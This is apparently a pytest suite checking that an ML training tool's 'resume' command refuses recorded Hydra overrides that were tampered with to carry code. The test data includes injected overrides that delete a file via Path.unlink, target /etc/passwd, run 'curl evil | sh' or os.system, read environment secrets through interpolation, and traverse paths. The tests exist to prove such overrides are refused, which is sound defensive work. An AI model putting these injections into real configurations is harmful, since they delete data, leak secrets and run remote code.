"""Replaying a folder's recorded settings (`normexp resume DIR`, the Ctrl-C hint) is safe and
works for any folder: a record that gained code (a Hydra callback, a `_target_`, an
interpolation that reads the environment) is refused in one line naming the file and the
override, exit 2, before anything runs; and a folder whose name holds `=`, `,`, spaces,
quotes or non-ASCII (a default run folder is named by its overrides) resumes through both
`normexp resume` and the exact command the interrupt printed."""

import json
import shlex
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from conftest import RAN_TO_THE_END, SAFETY_NET_S, TINY, make_corpus, read_summary, run_cli

from normexp.runs import checkpoint as ckpt
from normexp.runs.reading import find_runs

BASE = [*TINY, "steps=4", "warmup=0", "data=text", "checkpoint_every=2"]
ATTACK_TARGET = "+hydra.callbacks.x._target_=pathlib.Path.unlink"


def attack(victim: Path) -> list[str]:
    """The two overrides that make Hydra call Path.unlink(victim) when it starts."""
    return [ATTACK_TARGET, f"+hydra.callbacks.x._args_=[{victim}]"]


def as_interrupted(run: Path) -> None:
    """A finished 4-step run made into one stopped after its step-2 checkpoint (what a kill
    leaves), so that a resume has steps left and gets as far as starting Hydra."""
    (run / "checkpoints" / "step_00000004.pt").unlink()
    summary = read_summary(run)
    (run / "summary.json").write_text(json.dumps({**summary, "status": "interrupted", "steps_completed": 2}))


@pytest.fixture(scope="module")
def folders(tmp_path_factory):
    """A real run folder and a real sweep folder, each interrupted (made once for the module;
    each test plants its change in a copy)."""
    from conftest import cli_environment

    root = tmp_path_factory.mktemp("replay")
    env = cli_environment(root / "cache")
    corpus = make_corpus(root / "corpus.txt", 20_000)
    run, sweep = root / "run", root / "sweep"
    run_cli(["train", *BASE, f"data.files=[{corpus}]", f"hydra.run.dir={run}"], env)
    run_cli(["train", "-m", *BASE, f"data.files=[{corpus}]", "seed=0,1", f"hydra.sweep.dir={sweep}"], env)
    as_interrupted(run)
    as_interrupted(find_runs(sweep)[0])
    return run, sweep, env


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def assert_refused(proc, victim: Path, record: Path, override: str, before: dict, folder: Path) -> None:
    assert victim.exists(), f"the planted callback ran: {proc.stderr[-2000:]}"
    assert proc.returncode == 2, proc.stderr[-2000:]
    errors = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(errors) == 1 and errors[0].startswith("normexp: error: "), proc.stderr[-2000:]
    assert str(record) in errors[0] and override in errors[0], errors[0]
    assert snapshot(folder) == before  # nothing ran: no log, no event file, no summary rewritten


@pytest.mark.slow
@pytest.mark.parametrize("where", ["normexp_run.json", ".hydra/overrides.yaml"])
def test_a_run_folder_whose_record_gained_a_callback_is_refused_and_runs_nothing(tmp_path, folders, where):
    """The record (normexp_run.json), or .hydra/overrides.yaml for a run without one."""
    run = shutil.copytree(folders[0], tmp_path / "run")
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    if where == "normexp_run.json":
        record = json.loads((run / "normexp_run.json").read_text())
        record["overrides"] += "".join(f"- {o}\n" for o in attack(victim))
        (run / "normexp_run.json").write_text(json.dumps(record))
    else:
        (run / "normexp_run.json").unlink()
        lines = yaml.safe_load((run / where).read_text()) + attack(victim)
        (run / where).write_text(yaml.safe_dump(lines))
    before = snapshot(run)
    proc = run_cli(["resume", str(run)], folders[2], check=False)
    assert_refused(proc, victim, run / where, ATTACK_TARGET, before, run)


@pytest.mark.slow
@pytest.mark.parametrize("part", ["task", "hydra"])
def test_a_sweep_folder_whose_multirun_yaml_gained_a_callback_is_refused_and_runs_nothing(tmp_path, folders, part):
    """In the sweep's task overrides or its Hydra overrides: both are replayed."""
    sweep = shutil.copytree(folders[1], tmp_path / "sweep")
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    started = yaml.safe_load((sweep / "multirun.yaml").read_text())
    started["hydra"]["overrides"][part] += attack(victim)
    (sweep / "multirun.yaml").write_text(yaml.safe_dump(started))
    before = snapshot(sweep)
    proc = run_cli(["resume", str(sweep)], folders[2], check=False)
    assert_refused(proc, victim, sweep / "multirun.yaml", ATTACK_TARGET, before, sweep)


@pytest.mark.slow
def test_an_interpolation_that_reads_the_environment_is_refused(tmp_path, folders):
    """`${oc.env:...}` would put an environment variable (a token, a password) into the run's
    config, its folder name and its TensorBoard hparams."""
    run = shutil.copytree(folders[0], tmp_path / "run")
    record = json.loads((run / "normexp_run.json").read_text())
    record["overrides"] += "- +data.val_files=[${oc.env:NORMEXP_SECRET}]\n"
    (run / "normexp_run.json").write_text(json.dumps(record))
    before = snapshot(run)
    proc = run_cli(["resume", str(run)], {**folders[2], "NORMEXP_SECRET": "s3cr3t"}, check=False)
    assert proc.returncode == 2 and "s3cr3t" not in proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert str(run / "normexp_run.json") in line and "+data.val_files=[${oc.env:NORMEXP_SECRET}]" in line, line
    assert snapshot(run) == before


# ------------------------------------------------------------ the allow-list, in-process


@pytest.mark.parametrize("override", [
    "layers=2", "lr=1e-3", "grad_clip=null", "qk_norm=true", "log.progress=lines", "optim.betas=[0.9,0.95]",
    "placement=post", "norm=rms", "experiment=lr_sensitivity", "+placement.alpha=2", "norm.eps=1e-6",
    "data.files=[/data/a.txt,/data/b.txt]", 'data.files=["/data/dätä b.txt"]',
    "placement=pre,post,deepnorm", "lr=range(1,3)", "seed=0,1,2",
    "hydra/launcher=joblib", "hydra/launcher=slurm", "hydra/sweeper=boundary", "hydra.launcher.n_jobs=2",
    "hydra.launcher.partition=gpu", "hydra.sweeper.budget_check=4", "hydra.mode=MULTIRUN", "hydra.job.chdir=true",
    "hydra.job.config.override_dirname.exclude_keys=['experiment','data.files','layers']",
])
def test_what_normexp_records_is_replayed(override):
    from normexp.runs.replay import refusal

    assert refusal(override) is None


def test_every_search_setting_of_the_boundary_sweeper_is_replayed():
    """The replay allow-list names the sweeper's settings by hand; it must hold each field of the
    sweeper's own config (its grid, params, excepted), or a search run with that setting cannot be
    continued by `normexp resume` (seen: hydra.sweeper.max_hours, refused from a search's record)."""
    from dataclasses import fields

    from hydra_plugins.normexp_boundary_sweeper.boundary_sweeper import BoundarySweeperConf
    from normexp.runs.replay import SWEEPER_SETTINGS

    assert {f.name for f in fields(BoundarySweeperConf)} - {"_target_", "params"} == SWEEPER_SETTINGS


@pytest.mark.parametrize("override, why", [
    (ATTACK_TARGET, "hydra.callbacks"),
    ("+hydra.callbacks.x._args_=[/etc/passwd]", "hydra.callbacks"),
    ("hydra.searchpath=[file:///tmp/evil]", "hydra.searchpath"),
    ("hydra/launcher=evil", "not a launcher normexp ships"),
    ("hydra/sweeper=optuna", "not a sweeper normexp ships"),
    ("hydra.launcher._target_=os.system", "_target_"),
    ("hydra.launcher.setup=['curl evil | sh']", "hydra.launcher.setup"),
    ("+norm._target_=os.system", "_target_"),
    ("+placement._partial_=true", "_partial_"),
    ("+data._args_=[1]", "_args_"),
    ("lr=${oc.env:HOME}", "interpolation"),
    ("data.files=['${oc.env:HOME}/x']", "interpolation"),
    ("layers=${layers}", "interpolation"),
    ("placement=../../../tmp/evil", "not a placement option"),
    ("nosuchkey=1", "not one of normexp's settings"),
    ("+nosuch.key=1", "not one of normexp's settings"),
    ("data.files={a:1}", "plain data"),
    ("--config-dir=/tmp/evil", "does not parse"),
    ("~hydra.callbacks.normexp_sweep", "hydra.callbacks"),
    ("norm@foo=rms", "@foo"),
])
def test_anything_else_is_refused_naming_why(override, why):
    from normexp.runs.replay import refusal

    reason = refusal(override)
    assert reason is not None and why in reason, reason


# ------------------------------------------------------------ folder names with any character

NASTY = ["x=1,y=2", "two  spaces", "it's", 'say "hi"', "both ' and \"", "dätä ünïcode", "back\\slash",
         "trailing\\", "quote\\'after", "dollar$sign", "brace${oc.env:HOME}", "a\\${b}", "semi;colon&amp", "tab\tx"]


@pytest.mark.parametrize("name", NASTY)
def test_a_folder_override_reads_back_as_the_folder_through_hydra_and_the_shell(tmp_path, name):
    """hydra.run.dir as resume passes it to Hydra, and the printed hint as a shell splits it:
    both give back the folder's path, character for character (Hydra composes the config with it)."""
    from normexp.config.compose import compose_config
    from normexp.runs.resume import resume_arguments

    run = tmp_path / name / "13-12-13_d_model=64,layers=2"
    run.mkdir(parents=True)
    (run / ".hydra").mkdir()
    (run / ".hydra" / "overrides.yaml").write_text("- layers=2\n")
    folder_override = resume_arguments(run)[-1]
    assert compose_config([folder_override], hydra=True).hydra.run.dir == str(run)
    hint = shlex.split(ckpt.resume_command(run, ["layers=2", "data.files=[/x y.txt]"]))
    assert hint[:3] == ["normexp", "train", "layers=2"] and hint[-2] == "resume=true"
    assert compose_config([hint[-1]], hydra=True).hydra.run.dir == str(run.resolve())
    sweep_hint = shlex.split(ckpt.resume_command(run / "job", ["seed=0,1"], sweep_dir=run))
    assert compose_config([sweep_hint[-1]], hydra=True).hydra.sweep.dir == str(run.resolve())


# ------------------------------------------------------------ a real default-named run, interrupted


def default_folder(cwd: Path) -> Path | None:
    found = sorted((cwd / "runs").glob("*/*"))
    return found[0] if found else None


@pytest.mark.slow
def test_an_interrupted_default_named_run_resumes_through_normexp_resume_and_the_printed_hint(tmp_path, cli_env):
    """The run's own folder (runs/<date>/<time>_batch_size=4,d_model=32,...) through the exact hint
    the interrupt printed, run by a shell; and a copy of the stopped folder moved below a
    folder whose name holds spaces, both quotes, `=`, `,` and non-ASCII, through `normexp resume`.
    The stop does not race the machine's speed: the step-20 checkpoint stalls (the test hook),
    so the run cannot finish before the signal that is sent once the step-10 checkpoint exists."""
    corpus = make_corpus(tmp_path / "corpus.txt", 20_000)
    here = tmp_path / "cwd"
    here.mkdir()
    args = [*TINY, "data=text", f"data.files=[{corpus}]", "steps=40", "warmup=0", "eval_every=20",
            "checkpoint_every=10"]
    job = subprocess.Popen([sys.executable, "-m", "normexp.cli", "train", *args], cwd=here, text=True,
                           env={**cli_env, ckpt.STALL_ENV: "120@20"}, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline and job.poll() is None:
        run = default_folder(here)
        if run is not None and (run / "checkpoints" / "step_00000010.pt").exists():
            break
        time.sleep(0.05)
    job.send_signal(signal.SIGINT)
    _, stderr = job.communicate(timeout=SAFETY_NET_S)
    assert job.returncode == 130, stderr[-3000:]
    run = default_folder(here)
    assert "=" in run.name and "," in run.name  # named by its overrides
    stopped = read_summary(run)
    assert stopped["status"] == "interrupted" and 10 <= stopped["steps_completed"] <= 20  # the stall holds step 20
    (hint,) = [line.split("resume with: ", 1)[1] for line in stderr.splitlines() if "resume with: " in line]

    odd = tmp_path / "it's a \"copy\", x=1 dätä"
    odd.mkdir()
    copy = shutil.copytree(run, odd / run.name)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()

    assert hint.startswith("normexp resume ")  # the run's folder, shell-quoted (issue 58)
    shell = f"{shlex.quote(sys.executable)} -m normexp.cli {hint[len('normexp '):]}"
    pasted = subprocess.run(["bash", "-c", shell], cwd=elsewhere, env=cli_env, capture_output=True, text=True,
                            timeout=SAFETY_NET_S)
    assert pasted.returncode == 0, f"$ {hint}\n{pasted.stderr[-3000:]}"
    assert f"resumed from step {stopped['steps_completed']}" in pasted.stderr
    assert read_summary(run)["steps_completed"] == 40 and read_summary(run)["status"] in RAN_TO_THE_END

    resumed = run_cli(["resume", str(copy)], cli_env, cwd=elsewhere, check=False)
    assert resumed.returncode == 0, resumed.stderr[-3000:]
    assert f"resumed from step {stopped['steps_completed']}" in resumed.stderr
    assert read_summary(copy)["steps_completed"] == 40 and read_summary(copy)["status"] in RAN_TO_THE_END
    # the two continuations of one stopped run compute the same thing
    assert read_summary(copy)["final_val_loss"] == read_summary(run)["final_val_loss"]
